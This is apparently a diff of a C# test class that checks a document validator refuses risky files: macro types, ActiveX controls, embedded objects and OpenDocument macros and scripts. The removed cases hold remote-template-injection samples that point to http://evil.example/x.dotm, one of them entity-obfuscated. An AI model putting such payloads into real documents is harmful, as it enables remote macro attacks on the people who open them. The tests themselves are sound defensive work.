@@ -58,9 +58,8 @@ public sealed class Documents_that_are_refused
         { "a type with macros", Pack.DocxOfType("application/vnd.ms-word.document.macroEnabled.main+xml") },
         { "a control", Pack.Docx(("word/activeX/activeX1.bin", "x")) },
         { "another file inside", Pack.Docx(("word/embeddings/oleObject1.bin", "x")) },
-        { "a template from elsewhere", Pack.Docx(("word/_rels/settings.xml.rels", "<Relationship Type=\"x/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/>")) },
-        { "a template from elsewhere in other signs", Pack.Docx(("word/_rels/settings.xml.rels", "<Relationship Type=\"x/attached&#84;emplate\" Target=\"http://evil.example/x.dotm\" TargetMode='E&#120;ternal'/>")) },
         { "macros of OpenDocument", Pack.Odt(("Basic/Standard/Module1.xml", "x")) },
+        { "macros of a document within", Pack.Odt(("Object 1/Basic/Standard/Module1.xml", "<x/>")) },
         { "scripts of OpenDocument", Pack.Odt(("Scripts/python/x.py", "x")) },
     };
 
@@ -180,7 +179,7 @@ public sealed class Documents_that_are_refused
 
     static int Central(byte[] file, string name) => file.AsSpan().LastIndexOf(Encoding.ASCII.GetBytes(name)) - 46;
 
-    static string TypeOf(byte[] file, string? name = null) => CheckDocument.TypeOf(file, name);
+    static string TypeOf(byte[] file, string? name = null) => CheckDocument.Check(file, name).ContentType;
 
     static RefusedFileException Refused(byte[] file, string? name = null) => Assert.Throws<RefusedFileException>(() => TypeOf(file, name));
 }
